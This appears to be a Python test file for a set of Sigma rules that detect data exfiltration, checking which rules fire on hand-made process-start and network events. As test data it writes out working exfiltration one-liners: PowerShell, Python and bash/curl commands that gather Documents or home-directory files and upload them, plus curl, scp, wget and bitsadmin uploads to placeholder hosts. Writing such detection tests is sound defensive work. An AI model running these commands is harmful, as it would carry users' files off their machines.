"""What the rules match and what they leave alone, on hand-made events, by the project's reference of Sigma's meaning.

The four events that the published detection wants its tests to leave are here, in the shape that Sysmon gives them.
"""

from __future__ import annotations

from dataclasses import dataclass

import pytest
from pack import seed
from pack.pack_files import RULE_FILES, document
from reference.events import Event, Value
from reference.meaning import in_log_source, matches

SCRIPT_A = "proc_creation_win_script_host_file_upload"
SCRIPT_B = "proc_creation_win_script_host_file_collection"
TOOL_A = "proc_creation_win_transfer_tool_external_upload"
TOOL_B = "proc_creation_win_transfer_tool_transfer_flags"
ARCHIVE = "proc_creation_win_archive_sensitive_path"
PYTHON_WINDOWS = "proc_creation_win_python_collect_archive_post"
PYTHON_LINUX = "proc_creation_lnx_python_collect_archive_post"
LOOP_LINUX = "proc_creation_lnx_curl_wget_upload_loop"
LOOP_MACOS = "proc_creation_macos_curl_wget_upload_loop"
CONNECTION = "net_connection_win_public_address"
CONNECTION_BY_TOOL = "net_connection_win_public_address_transfer_tool"
BOTH_CONNECTIONS = {CONNECTION, CONNECTION_BY_TOOL}

SYSTEM32 = "C:\\Windows\\System32\\"


def fired(fields: dict[str, Value], product: str = "windows", category: str = "process_creation") -> set[str]:
    """The file names of the rules that match, correlations aside."""
    event = Event("1", 0, fields, category, product)
    return {
        path.stem
        for path in RULE_FILES
        if "detection" in document(path) and in_log_source(document(path), event) and matches(document(path), event)
    }


@dataclass(frozen=True)
class Started:
    """A process start and the rules that must fire on it, no others. `tool` is a Windows program or a path."""

    tool: str
    command_line: str
    rules: tuple[str, ...]
    product: str = "windows"
    original: str = ""

    def fields(self) -> dict[str, Value]:
        image = self.tool if "/" in self.tool else f"{SYSTEM32}{self.tool}"
        return {"Image": image, "CommandLine": self.command_line, "OriginalFileName": self.original}


VALIDATION = (
    Started(
        "powershell.exe",
        'powershell.exe -nop -c "Get-ChildItem $env:USERPROFILE\\Documents -Recurse -Include *.txt | % { (New-Object'
        " Net.WebClient).UploadFile('http://127.0.0.1:8443/in', $_.FullName) }\"",
        (SCRIPT_A,),
    ),
    Started(
        "bitsadmin.exe",
        "bitsadmin /transfer exfil /upload /priority foreground http://127.0.0.1:8443/in C:\\Windows\\Temp\\d.txt",
        (TOOL_B,),
    ),
    Started(
        "python.exe",
        "python.exe -c \"import os,zipfile,urllib.request as u; z=zipfile.ZipFile(os.environ['TEMP']+'\\\\c.zip','w');"
        " [z.write(os.path.join(r,f)) for r,_,fs in os.walk(os.path.expanduser('~/Documents')) for f in fs]; z.close();"
        " u.urlopen(u.Request('http://127.0.0.1:8080',data=open(z.filename,'rb').read(),method='POST'))\"",
        (PYTHON_WINDOWS,),
    ),
    *(
        Started(
            "/bin/bash",
            'bash -c \'find ~ -name "*.pdf" | while read f; do curl -s -X POST -F file=@"$f" http://127.0.0.1:9090;'
            " done'",
            (rule,),
            product,
        )
        for product, rule in (("linux", LOOP_LINUX), ("macos", LOOP_MACOS))
    ),
)

SCRIPT_HOSTS = (
    Started("powershell.exe", "powershell (New-Object Net.WebClient).UploadFileAsync($u, $f)", (SCRIPT_A,)),
    Started("powershell.exe", "powershell [Net.FtpWebRequest]::Create($u)", (SCRIPT_A,)),
    Started("cmd.exe", "cmd /c dir /s /b > l.txt & curl -T l.txt http://nexus/", (SCRIPT_A,)),
    Started("cmd.exe", "cmd /c dir /s /b C:\\Users\\ > l.txt & curl -T l.txt http://nexus/", (SCRIPT_A,)),
    Started("x.exe", "x gci C:\\Users\\ | Compress-Archive", (SCRIPT_B,), original="PowerShell.EXE"),
    Started("x.exe", "x gci C:\\Users\\ | Compress-Archive", ()),
    Started("pwsh.exe", "pwsh -c Get-Content C:\\ProgramData\\app\\log.txt", (SCRIPT_B,)),
    Started("pwsh.exe", "pwsh -c Get-Content D:\\log.txt", ()),
    Started("powershell.exe", "powershell Start-BitsTransfer http://a.example/uploads/x C:\\x", (SCRIPT_B,)),
    Started("powershell.exe", "powershell Start-BitsTransfer C:\\x $u -TransferType Upload", (SCRIPT_A,)),
    Started("powershell.exe", "powershell Start-BitsTransfer C:\\x $u -TransferT:uploadreply", (SCRIPT_A,)),
    Started("powershell.exe", "powershell $a=@{TransferType = 'Upload'}; Start-BitsTransfer @a", (SCRIPT_A,)),
    Started("powershell.exe", "powershell Start-BitsTransfer $u C:\\x -TransferType Download", (SCRIPT_B,)),
    Started("cmd.exe", "cmd /c curl http://a.example/x.zip -o C:\\Users\\a\\x.zip", ()),
    Started("powershell.exe", "powershell Invoke-WebRequest http://a.example/", ()),
    Started("notepad.exe", "notepad UploadFile", ()),
)

TRANSFER_TOOLS = (
    Started("curl.exe", "curl -T a.zip https://drop.example/in", (TOOL_A,)),
    Started("curl.exe", "curl -Ta.zip https://drop.example/in", (TOOL_A,)),
    Started("curl.exe", "curl -sT a.zip ftp://me:pw@8.8.8.8/", (TOOL_A,)),
    Started("curl.exe", 'curl -F "file=@C:\\a.zip" https://drop.example/in', (TOOL_A,)),
    Started("curl.exe", "curl --data-binary @a.zip https://drop.example/in", (TOOL_A,)),
    Started("curl.exe", 'curl -d "@a.zip" https://drop.example/in', (TOOL_A,)),
    Started("x.exe", "x -T a.zip https://drop.example/in", (TOOL_A,), original="curl.exe"),
    Started("x.exe", "x -T a.zip https://drop.example/in", ()),
    Started("curl.exe", "curl -T a.zip http://10.0.0.1/in", (TOOL_B,)),
    Started("curl.exe", "curl -T a.zip drop.example/in", (TOOL_B,)),
    Started("curl.exe", "curl -u me@corp.example:token -T a.zip http://nexus/in", (TOOL_B,)),
    Started("curl.exe", "curl -fsSLO https://a.example/x.zip", ()),
    Started("curl.exe", "curl -O https://a.example/upload/x.zip", (TOOL_B,)),
    Started("wget.exe", "wget -T 10 https://a.example/x.zip", (TOOL_B,)),
    Started("wget.exe", "wget --post-file=a.zip https://drop.example/in", (TOOL_A,)),
    Started("bitsadmin.exe", "bitsadmin /transfer j /upload https://drop.example/in C:\\a", (TOOL_A,)),
    Started("bitsadmin.exe", "bitsadmin /transfer j https://a.example/x C:\\x", (TOOL_B,)),
    Started("certutil.exe", "certutil -urlcache -f https://a.example/x C:\\x", (TOOL_B,)),
    Started("certutil.exe", "certutil /encode a b", (TOOL_B,)),
    Started("scp.exe", "scp -r C:\\Users\\a\\Documents ops@files.example:/in", (TOOL_A,)),
    Started("scp.exe", 'scp a.zip "ops@8.8.8.8:in"', (TOOL_A,)),
    Started("scp.exe", "scp -r ops@files.example:/out C:\\Users\\a", (TOOL_B,)),
    Started("scp.exe", "scp a.zip ops@files:/in", (TOOL_B,)),
    Started("sftp.exe", "sftp -b put.txt ops@files.example:/in", (TOOL_A,)),
    Started("sftp.exe", "sftp ops@files.example", ()),
    Started("robocopy.exe", "robocopy C:\\a \\\\srv\\b -r ", (TOOL_B,)),
    Started("ftp.exe", "ftp -s:c.txt files.example", ()),
)

ARCHIVES = (
    Started("7z.exe", "7z a C:\\x.7z C:\\Users\\a\\Documents\\*", (ARCHIVE,)),
    Started("tar.exe", "tar -cf D:\\x.tar D:\\data", ()),
    Started("x.exe", "x a C:\\temp\\x.7z", (ARCHIVE,), original="7za.exe"),
)

PYTHON = (
    Started("/usr/bin/python3.11", "python3 -c 'import shutil,requests; requests.post(u, files={\"f\":"
            " open(shutil.make_archive(\"/tmp/a\",\"zip\",\"/home\"))})'", (PYTHON_LINUX,), "linux"),
    Started("/usr/bin/python3", "python3 -c 'tarfile glob.glob(\"/home/**\") ftplib'", (PYTHON_LINUX,), "linux"),
    Started("/usr/bin/python3", "python3 -c 'zipfile os.walk http.client PUT'", (PYTHON_LINUX,), "linux"),
    Started("/usr/bin/python3", "python3 -c 'zipfile os.walk'", (), "linux"),
    Started("/usr/bin/python3", "python3 -c 'zipfile requests.post'", (), "linux"),
    Started("/usr/bin/python3", "python3 -c 'os.walk requests.post'", (), "linux"),
    Started("/usr/bin/python3", "python3 -c 'urllib.request.urlretrieve zipfile os.walk'", (), "linux"),
    Started("/usr/bin/perl", "perl zipfile os.walk requests.post", (), "linux"),
)  # fmt: skip

LOOPS = (
    Started("/usr/bin/find", "find /home -name *.pdf -exec curl -F file=@{} http://x/ ;", (LOOP_LINUX,), "linux"),
    Started("/usr/bin/xargs", "xargs -I{} curl -T {} http://x/", (LOOP_LINUX,), "linux"),
    Started("/bin/sh", "sh -c 'for f in *; do curl -sST $f http://x/; done'", (LOOP_LINUX,), "linux"),
    Started("/bin/sh", "sh -c 'for f in *; do wget --post-file=$f http://x/; done'", (LOOP_LINUX,), "linux"),
    Started("/bin/sh", "sh -c 'for f in *; do curl --data-binary @$f http://x/; done'", (LOOP_LINUX,), "linux"),
    Started("/bin/zsh", "zsh -c 'for f in *; do curl -T $f http://x/; done'", (LOOP_MACOS,), "macos"),
    Started("/bin/sh", "sh -c 'for u in $(cat l); do curl -fsSLO $u; done'", (), "linux"),
    Started("/bin/sh", "sh -c 'for u in $(cat l); do wget -t 3 -T 10 $u; done'", (), "linux"),
    Started("/bin/sh", "sh -c 'for u in $(cat l); do curl -oTest.txt $u; done'", (), "linux"),
    Started("/bin/sh", "sh -c 'curl -T a http://x/'", (), "linux"),
    Started("/usr/bin/curl", "curl -T a http://x/", (), "linux"),
)


#: All process starts; the targets' conformance tests run them too.
STARTED = (*VALIDATION, *SCRIPT_HOSTS, *TRANSFER_TOOLS, *ARCHIVES, *PYTHON, *LOOPS)


@pytest.mark.parametrize(
    "case",
    STARTED,
    ids=lambda case: case.command_line[:60],
)
def test_process_start(case: Started) -> None:
    assert fired(case.fields(), case.product) == set(case.rules)


@pytest.mark.parametrize(
    ("fields", "rules"),
    [
        ({"DestinationIp": "8.8.8.8", "Initiated": "true", "Image": "C:\\a\\chrome.exe"}, {CONNECTION}),
        ({"DestinationIp": "2a00::1", "Image": "C:\\a\\chrome.exe"}, {CONNECTION}),
        ({"DestinationIp": "8.8.8.8", "Initiated": "false", "Image": "C:\\a\\curl.exe"}, {CONNECTION}),
        ({"DestinationIp": "8.8.8.8", "Initiated": "true", "Image": "C:\\a\\curl.exe"}, BOTH_CONNECTIONS),
        ({"DestinationIp": "8.8.8.8", "Initiated": "true", "Image": "C:\\a\\7z.exe"}, BOTH_CONNECTIONS),
        ({"DestinationIp": "8.8.8.8", "Initiated": "true", "Image": "C:\\a\\ssh.exe"}, BOTH_CONNECTIONS),
        ({"DestinationIp": "::ffff:8.8.8.8", "Initiated": "true", "Image": "C:\\a\\x.exe"}, {CONNECTION}),
        ({"DestinationIp": "10.0.0.1", "Initiated": "true", "Image": "C:\\a\\curl.exe"}, set()),
        ({"DestinationIp": "::ffff:10.0.0.1", "Initiated": "true", "Image": "C:\\a\\curl.exe"}, set()),
        ({"DestinationIp": "fe80::1", "Initiated": "true", "Image": "C:\\a\\curl.exe"}, set()),
        ({"Initiated": "true", "Image": "C:\\a\\curl.exe"}, set()),
    ],
)  # fmt: skip
def test_connection(fields: dict[str, Value], rules: set[str]) -> None:
    assert fired(fields, category="network_connection") == rules


def test_narrower_and_wider_rules_share_their_lists() -> None:
    """(b) leaves out exactly what (a) takes: its filters are (a)'s selections."""
    by_stem = {path.stem: document(path).get("detection", {}) for path in RULE_FILES}
    for narrower, wider, extra in (
        (SCRIPT_A, SCRIPT_B, {"img", "collection"}),
        (TOOL_A, TOOL_B, {"img"}),
    ):
        selections = {
            name.removeprefix("selection_"): content
            for name, content in by_stem[narrower].items()
            if name.startswith("selection_")
        }
        filters = {
            name.removeprefix("filter_main_"): content
            for name, content in by_stem[wider].items()
            if name.startswith("filter_main_")
        }
        shared = {name: by_stem[wider][f"selection_{name}"] for name in extra}
        assert selections == {**filters, **shared}


def _endings(names: tuple[str, ...]) -> list[str]:
    return [f"\\{name}" for name in names]


def test_word_lists_are_those_of_the_published_detection() -> None:
    """One by one, so that a word lost by an edit is named here before parity fails on an engine."""
    by_stem = {path.stem: document(path).get("detection", {}) for path in RULE_FILES}
    upload = by_stem[SCRIPT_A]["selection_upload"]["CommandLine|contains"]
    assert {*upload, by_stem[SCRIPT_B]["selection_bits"]["CommandLine|contains"]} == {*seed.UPLOAD}
    for stem, name, words in (
        (SCRIPT_A, "selection_collection", seed.COLLECTION),
        (SCRIPT_A, "selection_transfer", seed.TRANSFER),
        (SCRIPT_B, "selection_path", seed.SENSITIVE_PATHS),
        (TOOL_B, "selection_flag_any", seed.TOOL_FLAGS),
        (ARCHIVE, "selection_path", seed.SENSITIVE_PATHS),
    ):
        assert by_stem[stem][name] == {"CommandLine|contains": [*words]}, (stem, name)
    for stem, names in ((SCRIPT_A, seed.SCRIPT_HOSTS), (TOOL_A, seed.TRANSFER_TOOLS), (ARCHIVE, seed.ARCHIVE_TOOLS)):
        assert by_stem[stem]["selection_img"][0] == {"Image|endswith": _endings(names)}, stem
    by_tool = by_stem[CONNECTION_BY_TOOL]["selection_img"]["Image|endswith"]
    assert {*_endings(seed.SCRIPT_HOSTS + seed.TRANSFER_TOOLS + seed.ARCHIVE_TOOLS)} <= {*by_tool}
